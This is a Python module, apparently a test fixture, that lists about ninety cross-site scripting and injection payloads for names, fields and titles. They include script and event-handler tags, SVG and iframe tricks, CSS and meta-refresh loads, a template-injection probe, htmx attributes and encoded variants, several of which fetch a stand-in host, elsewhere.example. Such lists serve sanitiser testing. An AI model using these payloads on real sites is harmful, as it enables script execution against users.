"""What people have written into names, fields and titles so that a page runs or fetches it.

Every one would set `window.ran`, or ask the host `elsewhere.example`, if a page took it for more than a text.
"""

RUN = "window.ran=1"
AWAY = "//elsewhere.example/x"
_GET = f"fetch('http:{AWAY}')"

PAYLOADS = tuple(
    line.replace("RUN", RUN).replace("GET", _GET).replace("AWAY", AWAY)
    for line in r'''
<script>RUN</script>
<ScRiPt>RUN</sCrIpT>
<script src=AWAY></script>
<script>GET</script>
<script/x>RUN</script >
<<script>RUN;//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
"><script>RUN</script>
'><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
</code></pre><script>RUN</script>
<script type="module">RUN</script>
<img src=x onerror=RUN>
<img src=x onerror="GET">
<img src=AWAY>
<img srcset="AWAY 1x">
<img src="x` `<script>RUN</script>"` `>
<img """><script>RUN</script>">
<image href=AWAY>
" onmouseover="RUN" autofocus onfocus="RUN" x="
' onfocus='RUN' autofocus tabindex='1
" style="background:url(AWAY)" x="
`onmouseover=RUN`
<svg onload=RUN>
<svg/onload=RUN//
<svg><script>RUN</script></svg>
<svg><script href=AWAY /></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributename=x>
<svg><use href="AWAY#a">
<svg><image href=AWAY /></svg>
<svg><foreignObject><iframe src=AWAY></iframe></foreignObject></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>a</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=RUN>">
<body onload=RUN>
<body background=AWAY>
<iframe src="javascript:RUN"></iframe>
<iframe src=AWAY></iframe>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<object data="javascript:RUN"></object>
<object data=AWAY></object>
<embed src=AWAY>
<video src=AWAY onerror=RUN autoplay></video>
<video><source onerror=RUN></video>
<audio src=AWAY autoplay></audio>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<details open ontoggle=RUN>
<marquee onstart=RUN>x</marquee>
<link rel=stylesheet href=AWAY>
<link rel=prefetch href=AWAY>
<link rel=dns-prefetch href=AWAY>
<style>@import 'AWAY';</style>
<style>*{background:url(AWAY)}</style>
<div style="background-image:url(AWAY)">x</div>
<base href=AWAY>
<meta http-equiv=refresh content="0;url=http:AWAY">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<form action=AWAY><button autofocus>Go on</button></form>
<a href="javascript:RUN">a</a>
<a href="data:text/html,<script>RUN</script>">a</a>
<a href="http:AWAY" ping="AWAY">a</a>
javascript:RUN
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+RUN//'>
data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=
{{constructor.constructor('RUN')()}}
{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
${RUN}
<div hx-get="AWAY" hx-trigger="load">x</div>
<div hx-on:load="RUN" data-hx-on:click="RUN">x</div>
<div data-answers="RUN" hx-vals='js:{a:RUN}' hx-trigger="load" hx-post="/login">x</div>
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
\u003cscript\u003eRUN\u003c/script\u003e
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
＜script＞RUN＜/script＞
<!--><script>RUN</script-->
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">RUN</html:script>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<template><script>RUN</script></template>
<xmp><p title="</xmp><svg/onload=RUN>">
<plaintext><script>RUN</script>
[a](javascript:RUN) ![a](http:AWAY)
'''.strip().splitlines()
)
